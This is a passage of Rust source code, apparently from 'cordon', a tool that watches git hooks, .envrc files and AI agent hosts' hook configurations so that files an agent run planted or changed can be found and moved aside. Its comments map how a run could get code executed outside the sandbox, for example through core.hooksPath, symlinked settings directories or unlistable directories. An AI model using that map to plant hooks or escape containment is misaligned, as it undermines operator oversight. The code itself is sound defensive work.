            .and_then(|e| e.startup.as_deref())
            .filter(|e| e.home == home)
            .filter(|e| e.files.iter().all(|(f, st)| stamp_now(f) == *st))
        {
            self.startup = Some(Box::new(e.clone()));
            return e.places.clone();
        }
        let (places, consulted) = cordon_policy::surface::startup::places_read(home);
        let settled = |st: &git_state::Stamp| {
            u64::try_from(st.5).is_ok_and(|secs| {
                SystemTime::UNIX_EPOCH
                    + Duration::new(secs, st.6.clamp(0, 999_999_999) as u32)
                    + SETTLED
                    < began
            })
        };
        let mut files = Vec::with_capacity(consulted.len());
        for (f, read) in consulted {
            let st = stamp_now(&f);
            match &st {
                Some(st) if settled(st) => {}
                None if !read => {}
                _ => {
                    self.startup = None;
                    return places;
                }
            }
            files.push((f, st));
        }
        self.startup = Some(Box::new(StartupRead {
            home: home.to_path_buf(),
            files,
            places: places.clone(),
        }));
        places
    }

    /// Every name directly in `dir` but a directory (what the shell takes by name from a PATH
    /// entry: a file or a link; a directory is not run), or `dir` as unlistable.
    fn programs_in(&mut self, dir: &Path, why: &'static str) {
        let Ok(rd) = std::fs::read_dir(dir) else {
            self.unlistable(dir);
            return;
        };
        for e in rd.flatten() {
            self.entries += 1;
            if e.file_type().is_ok_and(|t| !t.is_dir()) {
                self.note(e.path(), What::ToolFile, why, true);
            }
        }
    }

    /// The names in `dir`: the earlier snapshot's when the directory is unchanged since and
    /// was settled then, else read now.
    fn names(
        &mut self,
        dir: &Path,
        earlier: Option<&Snapshot>,
        root: &Path,
    ) -> Option<(Names, usize)> {
        // With an earlier snapshot most directories are unchanged: one `lstat` decides, and
        // only a changed one is opened.
        if let Some(e) = earlier {
            let m = std::fs::symlink_metadata(dir).ok()?;
            if !m.is_dir() {
                return None;
            }
            let state = (m.dev(), m.ino(), m.ctime(), m.ctime_nsec());
            let changed = SystemTime::UNIX_EPOCH
                + Duration::new(state.2.max(0) as u64, state.3.clamp(0, 999_999_999) as u32);
            let known = e
                .started
                .is_some_and(|t| changed + SETTLED < t)
                .then(|| e.listings.get(dir))
                .flatten()
                .filter(|l| l.state == state);
            if let Some(l) = known {
                let (names, count) = (l.names.clone(), l.count);
                self.listings.insert(
                    dir.to_path_buf(),
                    Listing {
                        state,
                        names: names.clone(),
                        count,
                    },
                );
                return Some((names, count));
            }
        }
        // Read now: opened without following a link (a link is not a directory of the
        // root), its state taken from the descriptor, so that the state recorded is the listed
        // directory's own, and each directory costs one path lookup.
        self.listed += 1;
        let Some((state, names, count)) = list(dir) else {
            // A directory below the root is the caller's to record ([`Snapshot::unlistable`]);
            // the root itself cannot be moved aside: the scan is incomplete, which fails closed
            // as a walk past its limit does.
            if dir == root && std::fs::symlink_metadata(dir).is_ok_and(|m| m.is_dir()) {
                self.truncated = true;
            }
            return None;
        };
        let names: Names = names.into();
        self.listings.insert(
            dir.to_path_buf(),
            Listing {
                state,
                names: names.clone(),
                count,
            },
        );
        Some((names, count))
    }

    fn root_git_dir(&mut self, root: &Path) {
        let path = root.join(".git");
        if !self.note(path.clone(), What::GitDir, GIT_DIR_WHY, true) {
            return;
        }
        if std::fs::symlink_metadata(&path).is_ok_and(|m| m.is_dir()) {
            self.git_dir(&path, 0);
            self.index_gitlinks(&path, root);
            self.linked_hooks(&path, root);
        } else {
            // The root is a linked worktree or a submodule: its git directory, where a root
            // holds it.
            self.linked_git_dir(&path, root);
        }
    }

    /// The surface that the names above `root` put in it (`surface::within_root`), which the
    /// walk, going by the names below the root, takes for plain files: `settings.json` of the
    /// root `/p/.claude`, each hook of the root `/p/.git/hooks`, the root that is a bare
    /// repository itself, a plugin of the root `~/.config/nvim`. Recorded whatever the walk's
    /// limit, as a root's own `.git` is.
    fn within_root(&mut self, root: &Path, home: Option<&Path>) {
        use cordon_policy::surface::{Kind, WithinKind};
        let roots = [root.to_path_buf()];
        for w in cordon_policy::surface::within_root(root, home) {
            let what = if w.kind == Kind::Git {
                What::GitConfig
            } else {
                What::ToolFile
            };
            match w.what {
                WithinKind::GitDir => {
                    self.git_dir(&w.path, 0);
                    self.linked_hooks(&w.path, root);
                    // Its refs and index, for its worktree (a `.git`'s parent; a bare
                    // repository has none: itself).
                    let worktree = match w.path.file_name() {
                        Some(n) if n == ".git" => w.path.parent().unwrap_or(&w.path),
                        _ => &w.path,
                    }
                    .to_path_buf();
                    self.git_state(&w.path, &worktree);
                }
                WithinKind::Dir => {
                    if self.note(w.path.clone(), what, w.why, true) {
                        self.list(&w.path, what, w.why, 0);
                    }
                }
                WithinKind::File => {
                    self.note_file(w.path, w.why, &roots);
                }
            }
        }
    }

    /// The operator's absolute (or `~/`) `core.hooksPath`, from their own git configuration
    /// or the environment's, is every repository's hooks directory: watched where a root holds
    /// it, whether or not that root is a repository (`/work/tools/hooks` in a root
    /// `/work/tools` that is none runs at a commit in any repository).
    fn operator_hooks(&mut self, root: &Path) {
        use cordon_policy::surface::git_config::{environment, operator_files, read, Named};
        let home = std::env::var_os("HOME").map(PathBuf::from);
        let var = |v: &str| std::env::var_os(v);
        let mut named = Named::default();
        let roots = [root.to_path_buf()];
        for f in operator_files(home.as_deref(), &var) {
            let _ = read(&f, home.as_deref(), &mut named, 0);
            // The operator's file itself, where the environment puts it in the root
            // (`GIT_CONFIG_GLOBAL=/work/proj/gitconfig`, `$XDG_CONFIG_HOME/git/config`).
            let real = real_in(&f, &roots);
            if real.starts_with(root) {
                self.note_file(real, OPERATORS_GIT_WHY, &roots);
            }
        }
        let _ = environment(home.as_deref(), &var, &mut named);
        self.hooks_dirs(named.hooks.into_iter().filter(|h| h.is_absolute()), root);
    }

    /// Each of `dirs` that is a directory in `root` (where it really is), watched whole as a
    /// hooks directory git's configuration names.
    fn hooks_dirs(&mut self, dirs: impl IntoIterator<Item = PathBuf>, root: &Path) {
        let why = GIT_CONFIG_SURFACE
            .iter()
            .find(|(n, _)| *n == "hooks")
            .map_or("programs git runs", |(_, why)| why);
        self.named_dirs(dirs, root, What::GitConfig, why);
    }

    /// Each of `dirs` that is a directory in `root` (where it really is), watched whole: a
    /// directory a configuration names, whose every file a program of the operator's runs
    /// (git's hooks, a Claude Code marketplace's plugins).
    fn named_dirs(
        &mut self,
        dirs: impl IntoIterator<Item = PathBuf>,
        root: &Path,
        what: What,
        why: &'static str,
    ) {
        for dir in dirs {
            let Some(real) = canonical(&dir).filter(|r| r.starts_with(root) && r.is_dir()) else {
                continue;
            };
            if self.note(real.clone(), what, why, true) {
                self.list(&real, what, why, 0);
            }
        }
    }

    /// A git directory's `hooks` kept as a link to a directory of the root (`.git/hooks ->
    /// ../githooks`, a tracked directory): git runs what is there, so it is watched where it
    /// really is, like a hooks directory. (The link itself is [`Snapshot::git_dir`]'s.)
    /// So is the directory its configuration's `core.hooksPath` names (`.githooks`, husky's
    /// `.husky/_`), taken from where git takes a relative one (the worktree's top; a bare
    /// repository), and each file of the root that configuration includes: read as git reads
    /// them, the repository's files with the operator's, by `surface::git_config` (the file
    /// tools' reader). What it read before a file it could not is still watched.
    fn linked_hooks(&mut self, gd: &Path, root: &Path) {
        use cordon_policy::surface::git_config::{
            environment, operator_files, operator_files_at_top, read, repository_files, Named,
        };
        let mut dirs = Vec::new();
        let hooks = gd.join("hooks");
        if std::fs::symlink_metadata(&hooks).is_ok_and(|m| m.file_type().is_symlink()) {
            dirs.push(hooks);
        }
        let home = std::env::var_os("HOME").map(PathBuf::from);
        let var = |v: &str| std::env::var_os(v);
        let top = match gd.file_name() {
            Some(n) if n == ".git" => gd.parent().unwrap_or(gd),
            _ => gd,
        };
        // The operator's global files git takes at the top (a relative `GIT_CONFIG_GLOBAL`):
        // read, and watched as an included file is.
        let at_top: Vec<PathBuf> = operator_files_at_top(&var)
            .iter()
            .map(|f| top.join(f))
            .collect();
        let mut named = Named::default();
        let files: Vec<PathBuf> = repository_files(gd)
            .unwrap_or_default()
            .into_iter()
            .chain(operator_files(home.as_deref(), &var))
            .chain(at_top.iter().cloned())
            .collect();
        for f in &files {
            let _ = read(f, home.as_deref(), &mut named, 0);
        }
        // The programs it names by a path in the work tree (`core.fsmonitor =
        // scripts/fsmon.sh`, a filter's, an alias's: git runs a relative one from the top),
        // as the file tools read them (`surface::envrc::literal`, exact names).
        for f in &files {
            let Ok(Some(text)) = cordon_fs::safe::read_followed(f, 1 << 20) else {
                continue;
            };
            let words = cordon_policy::surface::envrc::literal(&text, &[top], home.as_deref());
            let roots = [root.to_path_buf()];
            // (Where it really is: git follows a link the operator keeps on the way.)
            for p in words.paths.into_iter().filter(|p| p.starts_with(root)) {
                let p = real_in(&p, &roots);
                if p.starts_with(root) && !std::fs::metadata(&p).is_ok_and(|m| m.is_dir()) {
                    self.note(p, What::GitConfig, CONFIGURED_WHY, true);
                }
            }
        }
        let _ = environment(home.as_deref(), &var, &mut named);
        named.includes.extend(at_top);
        // Where `core.worktree` moves the top, a relative one is taken from there too.
        let tops: Vec<PathBuf> = std::iter::once(top.to_path_buf())
            .chain(named.worktrees.iter().map(|w| gd.join(w)))
            .collect();
        for top in &tops {
            dirs.extend(named.hooks.iter().map(|h| top.join(h)));
        }
        self.hooks_dirs(dirs, root);
        for file in named.includes {
            let real = real_in(&file, std::slice::from_ref(&root.to_path_buf()));
            if real.starts_with(root) {
                self.note(real, What::GitConfig, INCLUDED_WHY, true);
            }
        }
    }

    /// What the `.envrc` in `dir` loads for certain (`surface::envrc`: the files it sources
    /// or reads as variables, a program it runs by path, `.env` for `dotenv`, the Nix files
    /// `use flake` evaluates), where that lies in `root`: direnv checks only the `.envrc`
    /// against its allow list. (The directories it puts on the PATH are not listed, nor the
    /// other words it names: a build or a package install writes them in normal work,
    /// `node_modules/.bin` or a venv's `bin`, and moving that aside would undo it; the file
    /// tools ask for them.)
    fn envrc_loads(&mut self, dir: &Path, root: &Path) {
        // (Never blocking on a FIFO a run left there.)
        let Ok(Some(text)) = cordon_fs::safe::read_followed(&dir.join(".envrc"), 1 << 20) else {
            return;
        };
        let home = std::env::var_os("HOME").map(PathBuf::from);
        let named = cordon_policy::surface::envrc::read(&text, dir, home.as_deref());
        let roots = [root.to_path_buf()];
        for file in named.loaded {
            let real = real_in(&file, &roots);
            if real.starts_with(root) && !std::fs::metadata(&real).is_ok_and(|m| m.is_dir()) {
                self.note(real, What::ToolFile, ENVRC_LOADS_WHY, true);
            }
        }
    }

    /// The programs the hook configurations in `dir` name (`surface::hooks`: an agent host's
    /// hooks, Claude Code's status line, Codex's `notify`, Copilot's hook files, husky's hooks,
    /// pre-commit's entries), where they lie in `root`: the host runs them outside any sandbox
    /// at its next tool call, git at the next commit, as it runs a hook in `.git/hooks`. Read
    /// as [`Snapshot::linked_hooks`] reads git's programs (`surface::envrc::literal`, exact
    /// names; a word with an expansion, `"$CLAUDE_PROJECT_DIR"/scripts/hook.sh`, by its
    /// literal tail from `dir` and from the file's own directory). A configuration present
    /// but unreadable (a FIFO, past 1 MiB, no permission) could name any program: the scan is
    /// incomplete, which fails closed. (Not the MCP servers' commands nor the PATH: a build
    /// rewrites those in normal work; the file tools ask for them.)
    /// Only the entries `present` takes (the walk has the directory's names: a `.github`
    /// without Copilot's files costs no failed open per entry).
    fn hook_programs(&mut self, dir: &Path, root: &Path, present: &dyn Fn(&&str) -> bool) {
        use cordon_policy::surface::hooks::{
            hook_text, marketplaces, MARKETPLACE_SETTINGS, MARKETPLACE_WHY,
        };
        const MAX: u64 = 1 << 20;
        let mut configs: Vec<(&str, PathBuf)> = HOOK_CONFIGS
            .iter()
            .filter(|e| present(e))
            .map(|e| (*e, dir.join(e)))
            .collect();
        for entry in HOOK_DIRS.iter().filter(|e| present(e)) {
            let Ok(list) = std::fs::read_dir(dir.join(entry)) else {
                continue;
            };
            for e in list.flatten() {
                // (husky's own `_` directory of stubs is git's hooks path, watched as such.)
                if !e.file_type().is_ok_and(|t| t.is_dir()) {
                    configs.push((entry, e.path()));
                }
            }
        }
        let home = std::env::var_os("HOME").map(PathBuf::from);
        let roots = [root.to_path_buf()];
        for (entry, file) in configs {
            let text = match cordon_fs::safe::read_followed(&file, MAX) {
                Ok(Some(text)) => text,
                Ok(None) => continue,
                Err(_) => {
                    self.truncated = true;
                    continue;
                }
            };
            let name = file.file_name().and_then(|n| n.to_str()).unwrap_or(entry);
            // A marketplace directory a Claude Code settings file names: its plugins run from
            // there, every file of it.
            if MARKETPLACE_SETTINGS.contains(&entry) {
                let dirs = marketplaces(entry, &text, dir);
                self.named_dirs(dirs, root, What::ToolFile, MARKETPLACE_WHY);
            }
            let own = file.parent().unwrap_or(dir);
            let named = cordon_policy::surface::envrc::literal(
                &hook_text(name, &text),
                &[dir, own],
                home.as_deref(),
            );
            let tails = named.tails.iter().flat_map(|t| [dir.join(t), own.join(t)]);
            for p in named.paths.iter().cloned().chain(tails) {
                // (Most words are no file: one `lstat` rules each out before the links on the
                // way are resolved, which costs a `readlink` per component. One made by the run
                // is found by the snapshot after it.)
                if !p.starts_with(root) || std::fs::symlink_metadata(&p).is_err() {
                    continue;
                }
                // (Where it really is: the host's shell follows a link the operator keeps.)
                let p = real_in(&p, &roots);
                if p.starts_with(root) && !std::fs::metadata(&p).is_ok_and(|m| m.is_dir()) {
                    self.note(p, What::ToolFile, HOOK_PROGRAM_WHY, true);
                }
            }
        }
    }

    /// A directory of a root that cordon's user cannot list (a command that made `x/.envrc`
    /// then `chmod 0300 x`: nothing lists `x`, direnv still opens `x/.envrc` on `cd x`) is
    /// recorded with its mode and ctime, so that one that appeared or changed is a finding
    /// and moved aside: the scan fails closed on what it cannot see. Cordon's own quarantine
    /// of one is not.
    fn unlistable(&mut self, dir: &Path) {
        let Ok(m) = std::fs::symlink_metadata(dir) else {
            return;
        };
        if !m.is_dir()
            || !std::fs::read_dir(dir)
                .is_err_and(|e| e.kind() == std::io::ErrorKind::PermissionDenied)
            || own().get(dir).is_some_and(|(id, _)| *id == identity(&m))
        {
            return;
        }
        self.seen.insert(
            dir.to_path_buf(),
            Seen {
                what: What::Unlistable,
                why: "a directory cordon cannot list (no read permission): what it holds cannot be checked, yet the operator's tools can open a file in it by name (direnv's `.envrc` on `cd`)".into(),
                id: (
                    UNLISTABLE,
                    m.dev(),
                    m.ino(),
                    0,
                    0,
                    0,
                    m.ctime(),
                    m.ctime_nsec(),
                    m.mode(),
                ),
                content: None,
                mode: m.mode() & 0o7777,
                owner: (m.uid(), m.gid()),
            },
        );
    }

    fn note(&mut self, path: PathBuf, what: What, why: &'static str, content: bool) -> bool {
        let Ok(m) = std::fs::symlink_metadata(&path) else {
            return false;
        };
        let content = if content && m.is_file() {
            small_content(&path)
        } else if m.file_type().is_symlink() {
            std::fs::read_link(&path)
                .ok()
                .map(|t| t.into_os_string().into_vec())
        } else {
            None
        };
        self.seen.insert(
            path,
            Seen {
                what,
                why: why.into(),
                id: identity(&m),
                content,
                mode: m.mode() & 0o7777,
                owner: (m.uid(), m.gid()),
            },
        );
        true
    }

    /// A watched file, and the file a link there leads to where that lies in `roots`: the tool
    /// reads the target (`~/.bashrc -> dotfiles/bashrc`, `.envrc -> envrc.shared`), which a
    /// run can change without touching the link. The target is recorded where it really is,
    /// so a change is undone there and the operator's link stays.
    fn note_file(&mut self, path: PathBuf, why: &'static str, roots: &[PathBuf]) -> bool {
        let linked = std::fs::symlink_metadata(&path).is_ok_and(|m| m.file_type().is_symlink());
        let target = linked
            .then(|| canonical(&path))
            .flatten()
            .filter(|t| roots.iter().any(|r| t.starts_with(r)))
            .filter(|t| std::fs::metadata(t).is_ok_and(|m| m.is_file()));
        let noted = self.note(path, What::ToolFile, why, true);
        if let Some(t) = target {
            self.note(t, What::ToolFile, why, true);
        }
        noted
    }

    /// The walk of one root: every directory, without following links, until the budget is
    /// spent.
    fn walk(&mut self, root: &Path, limit: usize, earlier: Option<&Snapshot>) {
        let root_of = root.to_path_buf();
        let mut stack = vec![root.to_path_buf()];
        while let Some(dir) = stack.pop() {
            let Some((listed, count)) = self.names(&dir, earlier, root) else {
                if dir != root_of {
                    self.unlistable(&dir);
                    // Gone meanwhile, or a link now: nothing of the root is there. Anything
                    // else (a path longer than the kernel takes, `ENAMETOOLONG`) is a
                    // directory the walk cannot see into: the scan is incomplete, which fails
                    // closed as a walk past its limit does.
                    if std::fs::symlink_metadata(&dir)
                        .is_err_and(|e| e.kind() != std::io::ErrorKind::NotFound)
                    {
                        self.truncated = true;
                    }
                }
                continue;
            };
            let names = &listed[..];
            // Past the limit: the walk ends with this directory's watched names, none of its
            // subdirectories.
            let descend = self.entries + count <= limit;
            if !descend {
                self.truncated = true;
                stack.clear();
            }
            self.entries = (self.entries + count).min(limit);
            // A directory git takes for a repository: `HEAD`, `objects`, `refs`, whatever each
            // is (git follows a link there: `objects -> elsewhere` is still a repository), or
            // `HEAD` and a `commondir` naming where they are.
            let has = |n: &str| names.iter().any(|(x, _)| x == n);
            // A host's or a hook manager's configuration here: the programs its hooks run.
            let first = |e: &&str| e.split('/').next().is_some_and(has);
            if HOOK_CONFIGS.iter().chain(HOOK_DIRS).any(first) {
                self.hook_programs(&dir, &root_of, &first);
            }
            if dir != root && cordon_policy::surface::is_git_dir_by(has) {
                self.note(
                    dir.clone(),
                    What::BareRepository,
                    "git takes this directory for a repository and runs its config; a gitdir file or commondir can point at it",
                    false,
                );
                self.git_dir(&dir, 0);
                self.linked_hooks(&dir, &root_of);
                // Its refs: what the operator's `git clone` of it, or `git worktree add`
                // from it, checks out.
                self.git_state(&dir, &dir);
                continue;
            }
            for (on_disk, is_dir) in names {
                let is_dir = *is_dir;
                // Most entries are plain files with other names (watched names start with a dot,
                // but for a few compared by name; the other names kept are a repository's,
                // checked above): no path for them.
                if !is_dir && !watched(on_disk.as_bytes()) {
                    continue;
                }
                let path = dir.join(on_disk);
                // Compared as a file system that ignores case reads it (`.ENVRC`, `.Claude`);
                // the paths are the names on disk.
                let folded = fold_name(on_disk);
                let name = folded.as_ref().unwrap_or(on_disk);
                // An entry's path below this name: `.claude/settings.json` below `.Claude`.
                let below = |rel: &str| match rel.split_once('/') {
                    Some((_, rest)) => path.join(rest),
                    None => path.clone(),
                };
                if name == ".git" {
                    if dir == root {
                        continue; // recorded before the walk
                    }
                    self.note(path.clone(), What::GitDir, GIT_DIR_WHY, true);
                    if is_dir {
                        self.git_dir(&path, 0);
                        self.index_gitlinks(&path, &dir);
                        self.linked_hooks(&path, &root_of);
                    } else {
                        self.linked_git_dir(&path, &dir);
                    }
                    continue;
                }
                // A tool's settings directory (`.vscode`, `.claude`, …): its watched files,
                // present or not.
                if is_dir {
                    // (By the entry's first name: a one-name directory, `.husky`, is itself.)
                    let inside = |r: &&(&str, &str)| r.0.split('/').next() == name.to_str();
                    let roots = std::slice::from_ref(&root_of);
                    for (rel, why) in TOOL_FILES.iter().filter(inside) {
                        self.note_file(below(rel), why, roots);
                    }
                    // A directory whose every file a tool runs: the directory and each entry.
                    for (rel, why) in TOOL_DIRS.iter().filter(inside) {
                        let tool_dir = below(rel);
                        if self.note(tool_dir.clone(), What::ToolFile, why, true) {
                            self.list(&tool_dir, What::ToolFile, why, 0);
                        }
                    }
                }
                let is = |r: &str| {
                    name.to_str()
                        .is_some_and(|n| cordon_policy::surface::name_is(n, r))
                };
                if let Some((_, why)) = TOOL_FILES.iter().find(|(r, _)| is(r)) {
                    self.note_file(path.clone(), why, std::slice::from_ref(&root_of));
                    if name == ".envrc" && !is_dir {
                        self.envrc_loads(&dir, &root_of);
                    }
                } else if self.dotenv && !is_dir && name == ".env" {
                    let why = cordon_policy::surface::DOTENV_BY_DIRENV_WHY;
                    self.note_file(path.clone(), why, std::slice::from_ref(&root_of));
                } else if let Some(why) = (!is_dir)
                    .then(|| cordon_policy::surface::tool_suffix(name.as_encoded_bytes()))
                    .flatten()
                {
                    // (`proj.code-workspace`: a tool's file by how its name ends.)
                    self.note_file(path.clone(), why, std::slice::from_ref(&root_of));
                }
                // A settings directory that is not a directory (`ln -s cfg .claude`): the tool
                // follows the link and reads its files from wherever it points, so the link
                // itself is watched.
                if !is_dir {
                    let dir_of =
                        |r: &&(&str, &str)| r.0.split_once('/').is_some_and(|(d, _)| *name == *d);
                    // (Only a tool's own settings directory: `.config -> elsewhere` is the trust
                    // store's concern, checked by name as a place of the store; what a tool reads
                    // through it is watched below all the same.)
                    let own = |r: &&(&str, &str)| {
                        r.0.matches('/').count() == 1 && !r.0.starts_with(".config/")
                    };
                    if let Some((_, why)) =
                        TOOL_FILES.iter().chain(TOOL_DIRS).filter(own).find(dir_of)
                    {
                        self.note(path.clone(), What::ToolFile, why, true);
                    }
                    // A directory whose every file a tool runs, kept as a link itself (`.husky ->
                    // hooks`): the link, and what is there.
                    if let Some((_, why)) = TOOL_DIRS.iter().find(|(r, _)| is(r)) {
                        self.note(path.clone(), What::ToolFile, why, true);
                        let real = std::fs::canonicalize(&path)
                            .ok()
                            .filter(|r| r.starts_with(&root_of) && r.is_dir());
                        if let Some(real) = real {
                            if self.note(real.clone(), What::ToolFile, why, true) {
                                self.list(&real, What::ToolFile, why, 0);
                            }
                        }
                    }
                    // What the tool reads through the link, where that lies in a root (a link
                    // the operator keeps, `.claude -> ../cfg` or `.config -> dotfiles/config`,
                    // is no change itself): recorded where it really is.
                    let roots = std::slice::from_ref(&root_of);
                    for (rel, why) in TOOL_FILES.iter().filter(dir_of) {
                        let real = real_in(&below(rel), roots);
                        if real.starts_with(&root_of) && !real.starts_with(&path) {
                            self.note(real, What::ToolFile, why, true);
                        }
                    }
                    for (rel, why) in TOOL_DIRS.iter().filter(dir_of) {
                        let tool_dir = real_in(&below(rel), roots);
                        if tool_dir.starts_with(&root_of)
                            && !tool_dir.starts_with(&path)
                            && self.note(tool_dir.clone(), What::ToolFile, why, true)
                        {
                            self.list(&tool_dir, What::ToolFile, why, 0);
                        }
                    }
                }
                if is_dir && descend {
                    stack.push(path);
                }
            }
        }
    }

    /// A git directory's configuration surface.
    fn git_dir(&mut self, gd: &Path, depth: usize) {
        if depth > MAX_GIT_DEPTH {
            return;
        }
        for (rel, why) in GIT_CONFIG_SURFACE.iter().chain(&[(
            "gitdir",
            "names the worktree of a linked worktree's git directory",
        )]) {
            let path = gd.join(rel);
            if !self.note(path.clone(), What::GitConfig, why, true) {
                continue;
            }
            if !std::fs::symlink_metadata(&path).is_ok_and(|m| m.is_dir()) {
                continue;
            }
            match *rel {
                // Each entry is a git directory of its own (a submodule's name may hold `/`:
                // then it is a directory of them).
                "modules" | "worktrees" => self.nested_git_dirs(&path, why, depth + 1),
                _ => self.list(&path, What::GitConfig, why, 0),
            }
        }
        for rel in TODO_LISTS {
            self.note(gd.join(rel), What::TodoList, TODO_WHY, true);
        }
    }

    fn nested_git_dirs(&mut self, dir: &Path, why: &'static str, depth: usize) {
        if depth > MAX_GIT_DEPTH {
            return;
        }
        let Ok(rd) = std::fs::read_dir(dir) else {
            self.unlistable(dir);
            return;
        };
        for e in rd.flatten() {
            self.entries += 1;
            let path = e.path();
            self.note(path.clone(), What::GitConfig, why, true);
            if e.file_type().is_ok_and(|t| t.is_dir()) {
                if path.join("HEAD").exists() || path.join("commondir").exists() {
                    self.git_dir(&path, depth);
                    if dir.file_name().is_some_and(|n| n == "worktrees") {
                        self.linked_worktree(&path);
                    } else {
                        self.modules.push(path.clone());
                    }
                } else {
                    self.nested_git_dirs(&path, why, depth + 1);
                }
            }
        }
    }

    /// Every entry under `dir` (a git directory's hooks and info, a tool's plugin directory),
    /// bounded in depth.
    fn list(&mut self, dir: &Path, what: What, why: &'static str, depth: usize) {
        if depth > MAX_GIT_DEPTH {
            return;
        }
        let Ok(rd) = std::fs::read_dir(dir) else {
            // `.git/hooks` made unlistable with a hook inside: git runs it by name.
            self.unlistable(dir);
            return;
        };
        for e in rd.flatten() {
            self.entries += 1;
            let path = e.path();
            // `git gc` writes info/refs (for dumb HTTP clients; git itself never runs it).
            if path.ends_with("info/refs") && depth == 0 {
                continue;
            }
            self.note(path.clone(), what, why, true);
            let kind = e.file_type();
            if kind.as_ref().is_ok_and(|t| t.is_dir()) {
                self.list(&path, what, why, depth + 1);
            }
            // A link in it to a file of a root (the operator's `.git/hooks/pre-commit ->
            // ../../scripts/pre-commit`, `.husky/pre-push -> ../scripts/hk.sh`): the program
            // runs the target, which a run can rewrite without touching the link. Watched where
            // it really is, so a change is undone there and the link stays.
            if kind.is_ok_and(|t| t.is_symlink()) {
                let target = std::fs::canonicalize(&path)
                    .ok()
                    .filter(|t| self.roots.iter().any(|r| t.starts_with(r)))
                    .filter(|t| std::fs::metadata(t).is_ok_and(|m| m.is_file()));
                if let Some(t) = target {
                    self.note(t, what, why, true);
                }
            }
        }
    }

    /// The gitlinks of a git directory's index, and of its shared index files (a split index,
    /// `git update-index --split-index`, keeps most entries there). Read as git reads them,
    /// through a symlink too (git follows one), but never blocking on a FIFO and only a
    /// regular file of bounded size.
    fn index_gitlinks(&mut self, git_dir: &Path, worktree: &Path) {
        let (links, raw, exists) = index_files(git_dir);
        let earlier = self.earlier_git.get(git_dir).map(|(r, t)| (r, *t));
        let state = git_state::GitState::read(git_dir, worktree, raw, exists, earlier);
        self.git.insert(git_dir.to_path_buf(), state);
        self.gitlinks.insert(git_dir.join("index"), links);
    }

    /// A linked worktree's git directory (`.git/worktrees/NAME`): its index, HEAD and
    /// pseudo-refs, for the worktree its `gitdir` file names (wherever that is: the operator's
    /// `git reset --hard` there writes what its HEAD holds).
    fn linked_worktree(&mut self, git_dir: &Path) {
        let Ok(Some(text)) = cordon_fs::safe::read_followed(&git_dir.join("gitdir"), 4096) else {
            return;
        };
        let dot_git = PathBuf::from(OsString::from_vec(text.trim_ascii_end().to_vec()));
        if let Some(worktree) = dot_git.parent().filter(|w| w.is_absolute()) {
            self.git_state(git_dir, worktree);
        }
    }

    /// The git directory a `.git` file (`gitdir: PATH`: a linked worktree's, a submodule's)
    /// or link in a root names, when it lies in a root: its state is recorded as a `.git`
    /// directory's is, for this worktree. One outside every root is not read: the run cannot
    /// write there, and a `.git` file it planted must not send the scan reading elsewhere.
    fn linked_git_dir(&mut self, dot_git: &Path, worktree: &Path) {
        let named = match cordon_fs::safe::read_followed(dot_git, 4096) {
            Ok(Some(text)) => match text.trim_ascii_end().strip_prefix(b"gitdir: ") {
                Some(p) => worktree.join(std::ffi::OsStr::from_bytes(p)),
                None => return,
            },
            _ => dot_git.to_path_buf(), // a link (followed by canonicalize)
        };
        let Ok(real) = std::fs::canonicalize(&named) else {
            return;
        };
        if real.is_dir() && self.roots.iter().any(|r| real.starts_with(r)) {
            self.git_state(&real, worktree);
        }
    }

    /// Records `git_dir`'s state (see `git_state`) for `worktree`, once per git directory. A
    /// git directory with no worktree (a bare repository, a submodule's whose worktree is not
    /// in a root) is its own: its findings name the file in it.
    fn git_state(&mut self, git_dir: &Path, worktree: &Path) {
        if self.git.contains_key(git_dir) {
            return;
        }
        let (_, raw, exists) = index_files(git_dir);
        let earlier = self.earlier_git.get(git_dir).map(|(r, t)| (r, *t));
        let state = git_state::GitState::read(git_dir, worktree, raw, exists, earlier);
        self.git.insert(git_dir.to_path_buf(), state);
    }
}

/// What an index file's bytes are kept as (see [`index_files`]).
type IndexFiles = Option<(Vec<std::sync::Arc<Vec<u8>>>, usize)>;

/// The gitlinks of a git directory's index, and the index files' bytes, and whether the index
/// exists.
fn index_files(git_dir: &Path) -> (BTreeSet<Vec<u8>>, IndexFiles, bool) {
    let index = git_dir.join("index");
    let mut files = vec![index.clone()];
    if let Ok(rd) = std::fs::read_dir(git_dir) {
        files.extend(
            rd.flatten()
                .filter(|e| e.file_name().as_bytes().starts_with(b"sharedindex."))
                .map(|e| e.path()),
        );
    }
    let mut links = BTreeSet::new();
    // Every index file's bytes (a split index's own and its shared one's), kept as read:
    // their entries are compared only when the index changed (`git_state`); `None` once
    // one that exists is no index cordon can read.
    let mut raw: IndexFiles = Some((Vec::new(), 20));
    let exists = std::fs::symlink_metadata(&index).is_ok();
    for file in files {
        let bytes = read_index(&file);
        match bytes.as_deref().and_then(gitlinks_of) {
            Some((found, hash)) => {
                links.extend(found);
                if let (Some((all, h)), Some(bytes)) = (raw.as_mut(), bytes) {
                    all.push(std::sync::Arc::new(bytes));
                    *h = hash;
                }
            }
            None if std::fs::symlink_metadata(&file).is_ok() => raw = None,
            None => {}
        }
    }
    (links, raw, exists)
}

impl Snapshot {
    /// What appeared or changed at or after `since` (by ctime, which a command cannot set
    /// back), each moved aside: the scan of a run whose cordon died before its own scan (killed
    /// by an agent host's timeout), done by the next run without the "before" snapshot.
    /// Directories are not reported by their ctime (git changes it in normal work); what is
    /// watched inside them is; nor is a file that holds what the dead run kept of it (content,
    /// mode and owner: as it was). A changed file whose earlier content the dead run kept
    /// ([`Kept`]) gets it back, as the run's own scan would have done (never over a name:
    /// what is at the name is moved aside first, and the restore refuses a name that was
    /// filled meanwhile); each move journaled first in `journal`, when there is one. What the
    /// run removed of what its "before" snapshot saw is reported too, and written back where
    /// its content was kept.
    pub fn changed_since(
        &self,
        since: Began,
        kept: &Kept,
        journal: Option<&Journal>,
    ) -> Vec<Finding> {
        let mut out: Vec<Finding> = Vec::new();
        for (path, now) in &self.seen {
            // id: (kind, dev, ino, size, mtime, mtime_nsec, ctime, ctime_nsec, mode)
            if now.id.0 == DIR || !stamped_at_or_after((now.id.6, now.id.7), since) {
                continue;
            }
            // A placeholder of a run still going (see `crate::protect::Placeholders`):
            // moving it would detach that run's cover; it carries nothing to run.
            if crate::protect::is_placeholder(path) {
                continue;
            }
            if now.what == What::TodoList && !runs_commands(now) {
                continue;
            }
            // What this process just put back from the dead scan's journal
            // ([`Journal::recover`]), unchanged since.
            if is_own(path, now) {
                continue;
            }
            // Cordon's own write-back cut short by a kill before its rename: not the run's.
            if staging_left(path, now, kept) {
                continue;
            }
